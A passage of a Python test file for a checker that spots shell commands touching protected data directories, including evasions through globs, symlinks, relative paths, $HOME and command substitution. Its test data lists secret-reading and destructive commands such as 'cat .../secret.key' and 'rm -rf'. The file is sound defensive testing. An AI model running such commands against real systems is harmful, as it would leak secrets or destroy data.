def test_sed_script_effects(script: str, effects: set[str] | None) -> None:
    assert sed_script_effects(script) == effects


# --- protected paths -----------------------------------------------------------------------------


@pytest.fixture
def data_dir(tmp_path: Path) -> Path:
    data = tmp_path / "data"
    data.mkdir()
    (data / "secret.key").write_text("k")
    (tmp_path / "data-other").mkdir()
    (tmp_path / "work").mkdir()
    return data


@pytest.mark.parametrize(
    "template",
    [
        "cat {D}/secret.key",
        "cat {D}",
        "ls -la {D}/",
        "cat '{D}/secret.key'",
        'cat "{D}"/secret.key',
        "cat {D}/../data/secret.key",
        "cat {T}/work/../data/secret.key",
        "rm -rf {D}",
        "sqlite3 {D}/db.sqlite3 .dump",
        "tar czf /tmp/x.tgz {D}",
        "grep --file={D}/secret.key x",
        "docker run -v {D}:/x alpine",
        "cp {D}/secret.key /tmp/",
        "ls; cat {D}/secret.key",
        "cat $(echo {D}/secret.key)",
        "cat {D}/secret.key '",
        "cat {D}/*.key",
        "cat {T}/da*/secret.key",
        "cat {T}/dat?/secret.key",
        "grep -r key {T}",
        "python3 -c 'open(\"{D}/secret.key\")'",
    ],
)
def test_protected_path_is_found(template: str, data_dir: Path) -> None:
    command = template.replace("{D}", str(data_dir)).replace("{T}", str(data_dir.parent))
    assert protected_path_in(command, [data_dir]) is not None, command


@pytest.mark.parametrize(
    "template",
    [
        "cat {T}/data-other/x",
        "ls {T}/work",
        "ls {T}",
        "echo data",
        "cat /etc/hostname",
        "cat {T}/work/data",
        "ls {T}/dat",
    ],
)
def test_no_false_positive_next_to_the_protected_dir(template: str, data_dir: Path) -> None:
    command = template.replace("{D}", str(data_dir)).replace("{T}", str(data_dir.parent))
    assert protected_path_in(command, [data_dir], cwd=data_dir.parent / "work") is None, command


def test_relative_paths_resolve_against_cwd(data_dir: Path) -> None:
    work = data_dir.parent / "work"
    assert protected_path_in("cat ../data/secret.key", [data_dir], cwd=work) == "../data/secret.key"
    assert protected_path_in("cat data/secret.key", [data_dir], cwd=data_dir.parent) == "data/secret.key"
    # working inside the protected directory: every word resolves into it
    assert protected_path_in("cat secret.key", [data_dir], cwd=data_dir) is not None
    assert protected_path_in("cat ../../x", [data_dir], cwd=work) is None


def test_cd_then_relative_path_is_found(data_dir: Path) -> None:
    command = f"cd {data_dir.parent} && cat data/secret.key"
    assert protected_path_in(command, [data_dir], cwd=Path("/")) is not None


def test_symlink_into_the_protected_dir_is_followed(data_dir: Path) -> None:
    link = data_dir.parent / "work" / "innocent"
    link.symlink_to(data_dir)
    cwd = data_dir.parent / "work"
    assert protected_path_in("cat innocent/secret.key", [data_dir], cwd=cwd) == "innocent/secret.key"
    assert protected_path_in(f"cat {link}/secret.key", [data_dir]) is not None


def test_protected_dir_given_through_a_symlink(data_dir: Path) -> None:
    alias = data_dir.parent / "alias"
    alias.symlink_to(data_dir)
    assert protected_path_in(f"cat {data_dir}/secret.key", [alias]) is not None


def test_tilde_and_home_are_expanded(data_dir: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", str(data_dir.parent))
    for command in ("cat ~/data/secret.key", "cat $HOME/data/secret.key", "cat ${HOME}/data/secret.key"):
        assert protected_path_in(command, [data_dir]) is not None, command
    assert protected_path_in("ls ~/work", [data_dir]) is None


def test_home_data_dir_is_not_matched_by_a_star(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", str(tmp_path))
    hidden = tmp_path / ".vigilus"
    hidden.mkdir()
    assert protected_path_in("ls ~/*", [hidden]) is None
    assert protected_path_in("cat ~/.vig*/x", [hidden]) is not None
    assert protected_path_in("rm -rf ~", [hidden]) is not None
    assert protected_path_in("tar czf x.tgz .vigilus", [hidden], cwd=tmp_path) is not None


def test_slash_data_is_not_slash_data_other() -> None:
    data = [Path("/data")]
    assert protected_path_in("cat /data-other/x", data) is None
    assert protected_path_in("cat /srv/data/x", data) is None
    assert protected_path_in("cat /data/x", data) == "/data/x"
    assert protected_path_in("cat --file=/data/x", data) == "--file=/data/x"
    assert protected_path_in("cat /data", data) == "/data"
    assert protected_path_in("cat /data/", data) == "/data/"
    assert protected_path_in("cat /./data//x", data) == "/./data//x"


def test_protected_path_works_on_unparseable_lines() -> None:
    assert protected_path_in("cat /data/key '", [Path("/data")]) is not None
    assert protected_path_in("cat /da''ta/key", [Path("/data")]) is not None
    assert protected_path_in("case x in a) cat /data/k;; esac", [Path("/data")]) is not None
    assert protected_path_in("echo $((1)) /data/k", [Path("/data")]) is not None


def test_no_protected_paths_means_nothing_is_protected() -> None:
    assert protected_path_in("cat /data/x", []) is None
    assert protected_path_in("", [Path("/data")]) is None


def test_relative_word_without_cwd_uses_the_process_cwd(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "data").mkdir()
    monkeypatch.chdir(tmp_path)
    assert protected_path_in("cat data/x", [tmp_path / "data"]) == "data/x"
    assert os.getcwd() == str(tmp_path)


def test_classification_is_safe_from_many_threads() -> None:
    """bashlex shares parser state between calls; classification serializes parses."""
    from concurrent.futures import ThreadPoolExecutor

    commands = [c for c, _ in READ_CASES[:40]] + [c for c, _ in NOT_READ_CASES[:40]]
    expected = [classify_command(c) for c in commands]
    with ThreadPoolExecutor(max_workers=8) as pool:
        for _ in range(5):
            assert list(pool.map(classify_command, commands)) == expected
